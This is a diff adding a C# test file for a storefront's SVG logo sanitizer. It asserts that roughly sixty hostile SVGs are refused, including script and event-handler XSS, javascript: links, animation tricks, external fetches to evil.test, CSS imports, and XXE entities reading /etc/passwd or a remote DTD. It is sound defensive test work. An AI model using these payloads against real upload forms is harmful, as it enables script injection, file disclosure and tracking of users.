@@ -1,0 +1,140 @@
+using System.Text;
+using Storefront.Platform.Branding.Logos;
+
+namespace Storefront.Tests.Platform.Branding.Logos;
+
+/// <summary>A drawing of a merchant's can draw, and do nothing else: published attacks by SVG, each refused with a sentence.</summary>
+public sealed class SvgLogoTests
+{
+    private const string Open = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 64 32">""";
+
+    public static TheoryData<string> Attacks =>
+    [
+        // Scripts, in every place that SVG has for them.
+        Open + "<script>alert(1)</script></svg>",
+        Open + "<script href=\"https://evil.test/x.js\"/></svg>",
+        Open + "<g><script type=\"text/ecmascript\"><![CDATA[alert(1)]]></script></g></svg>",
+        Open + "<SCRIPT>alert(1)</SCRIPT></svg>",
+        Open + "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script></svg>",
+        Open + "<x:script xmlns:x=\"http://www.w3.org/2000/svg\">alert(1)</x:script></svg>",
+        Open + "<handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler></svg>",
+        Open + "<path d=\"M0 0\" onclick=\"alert(1)\"/></svg>",
+        Open + "<path d=\"M0 0\" ONMOUSEOVER=\"alert(1)\"/></svg>",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 64 32\" onload=\"alert(document.domain)\"/>",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 64 32\" onload&#61;\"alert(1)\"/>",
+
+        // HTML inside of it.
+        Open + "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject></svg>",
+        Open + "<foreignObject width=\"9\" height=\"9\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></body></foreignObject></svg>",
+        Open + "<iframe xmlns=\"http://www.w3.org/1999/xhtml\" srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"/></svg>",
+        Open + "<embed xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.test/\"/></svg>",
+
+        // Links, and what animates a harmless one into another (CVE-2011-3603 and its like).
+        Open + "<a href=\"javascript:alert(1)\"><path d=\"M0 0h9v9z\"/></a></svg>",
+        Open + "<a xlink:href=\"https://evil.test/\"><path d=\"M0 0h9v9z\"/></a></svg>",
+        Open + "<path d=\"M0 0\"><set attributeName=\"onmouseover\" to=\"alert(1)\"/></path></svg>",
+        Open + "<path d=\"M0 0\"><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></path></svg>",
+        Open + "<animateTransform attributeName=\"transform\" onbegin=\"alert(1)\" begin=\"0s\"/></svg>",
+
+        // Fetching from elsewhere: who looks is told to somebody.
+        Open + "<image href=\"https://evil.test/pixel.png\" width=\"1\" height=\"1\"/></svg>",
+        Open + "<image xlink:href=\"data:image/svg+xml;base64,PHN2Zy8+\"/></svg>",
+        Open + "<image href=\"file:///etc/passwd\"/></svg>",
+        Open + "<use href=\"https://evil.test/x.svg#x\"/></svg>",
+        Open + "<use xlink:href=\"data:image/svg+xml,x#x\"/></svg>",
+        Open + "<path d=\"M0 0\" fill=\"url(https://evil.test/x.svg#a)\"/></svg>",
+        Open + "<path d=\"M0 0\" fill=\"url('//evil.test/x#a')\"/></svg>",
+        Open + "<path d=\"M0 0\" fill=\"\\75rl(//evil.test)\"/></svg>",
+        Open + "<path d=\"M0 0\" style=\"fill:url(https://evil.test/)\"/></svg>",
+        Open + "<path d=\"M0 0\" style=\"fill:URL(#a) url(https://evil.test/)\"/></svg>",
+        Open + "<path d=\"M0 0\" clip-path=\"url(data:image/svg+xml,x)\"/></svg>",
+        Open + "<path d=\"M0 0\" filter=\"url(https://evil.test/#f)\"/></svg>",
+        Open + "<filter id=\"f\"><feImage href=\"https://evil.test/\"/></filter></svg>",
+        Open + "<linearGradient id=\"a\" href=\"https://evil.test/x.svg#a\"/></svg>",
+        Open + "<linearGradient id=\"a\" xlink:href=\"javascript:alert(1)\"/></svg>",
+        Open + "<g xml:base=\"https://evil.test/\"><path d=\"M0 0\"/></g></svg>",
+        Open + "<path d=\"M0 0\" src=\"https://evil.test/x.png\"/></svg>",
+        Open + "<path d=\"M0 0\" cursor=\"url(https://evil.test/c.cur)\"/></svg>",
+
+        // Styles: rules reach out (@import, @font-face, url) and over the page.
+        Open + "<style>@import url(https://evil.test/x.css);</style></svg>",
+        Open + "<style>path{fill:url(https://evil.test/)}</style></svg>",
+        "<?xml-stylesheet href=\"https://evil.test/x.xsl\"?>" + Open + "<style/></svg>",
+
+        // Entities and document types: files of the server, requests from it, and a billion laughs.
+        "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + Open + "<title>&x;</title></svg>",
+        "<!DOCTYPE svg [<!ENTITY % x SYSTEM \"http://evil.test/x.dtd\"> %x;]>" + Open + "</svg>",
+        "<!DOCTYPE svg [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>" + Open + "<title>&b;</title></svg>",
+        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">" + Open + "</svg>",
+        Open + "<path d=\"&undefined;\"/></svg>",
+
+        // Too much of it.
+        Open + string.Concat(Enumerable.Repeat("<g>", 200)) + string.Concat(Enumerable.Repeat("</g>", 200)) + "</svg>",
+        Open + string.Concat(Enumerable.Repeat("<g/>", 3000)) + "</svg>",
+
+        // Not quite SVG, or none of our SVG.
+        "<svg onload=\"alert(1)\" viewBox=\"0 0 9 9\"/>",
+        "<x:svg xmlns:x=\"http://www.w3.org/1999/xhtml\"/>",
+        Open + "<svg/></svg>",
+        Open + "<text>Aurora</text></svg>",
+        Open + "<path d=\"M0 0\"",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 0 10\"/>",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 NaN 10\"/>",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100%\" height=\"100%\"/>",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1000 10\"/>",
+    ];
+
+    [Theory, MemberData(nameof(Attacks))]
+    public void An_attack_is_refused_with_a_sentence(string attack)
+    {
+        var problem = LogoFile.Check(Encoding.UTF8.GetBytes(attack), out _);
+
+        Assert.NotNull(problem);
+        Assert.StartsWith("The logo ", problem.English, StringComparison.Ordinal);
+        Assert.DoesNotContain("evil.test", problem.English, StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("utf-16"), InlineData("utf-32")]
+    public void Another_encoding_hides_nothing(string encoding) =>
+        Assert.NotNull(LogoFile.Check([.. Encoding.GetEncoding(encoding).GetPreamble(), .. Encoding.GetEncoding(encoding).GetBytes(Open + "<script>alert(1)</script></svg>")], out _));
+
+    [Fact]
+    public void A_plain_drawing_is_built_anew_with_its_shapes_and_colours()
+    {
+        var logo = Accepted(Open + """<defs><linearGradient id="a"><stop offset="0" stop-color="#f00"/></linearGradient></defs><g fill="url(#a)" transform="scale(2)"><path d="M0 0h9v9z"/></g></svg>""");
+
+        Assert.Equal(("image/svg+xml", 512, 256), (logo.MediaType, logo.Width, logo.Height));
+        Assert.Equal(
+            """<svg viewBox="0 0 64 32" width="512" height="256" xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="a"><stop offset="0" stop-color="#f00" /></linearGradient></defs><g fill="url(#a)" transform="scale(2)"><path d="M0 0h9v9z" /></g></svg>""",
+            Encoding.UTF8.GetString(logo.Content));
+    }
+
+    [Fact]
+    public void What_an_editor_leaves_behind_is_left_out()
+    {
+        var logo = Accepted("""
+            <?xml version="1.0" encoding="UTF-8"?>
+            <!-- Generator: <script>alert(1)</script> -->
+            <svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="64px" height="64px" class="x" id="logo" inkscape:version="1.3">
+              <title>Aurora</title><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata><inkscape:grid/>
+              <path style="fill:#7c2d12;stroke-width:2;font-family:Arial;-inkscape-font-specification:x" d="M0 0h9v9z" data-name="x" inkscape:label="x"/>
+            </svg>
+            """);
+
+        Assert.Equal(
+            """<svg width="512" height="512" id="logo" viewBox="0 0 64 64" xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9v9z" fill="#7c2d12" stroke-width="2" /></svg>""",
+            Encoding.UTF8.GetString(logo.Content));
+    }
+
+    [Fact]
+    public void One_gradient_may_borrow_from_another() =>
+        Assert.Contains("href=\"#a\"", Encoding.UTF8.GetString(Accepted(Open + "<linearGradient id=\"b\" xlink:href=\"#a\"/></svg>").Content), StringComparison.Ordinal);
+
+    private static LogoFile Accepted(string svg)
+    {
+        Assert.Null(LogoFile.Check(Encoding.UTF8.GetBytes(svg), out var logo)?.English);
+        return logo!;
+    }
+}
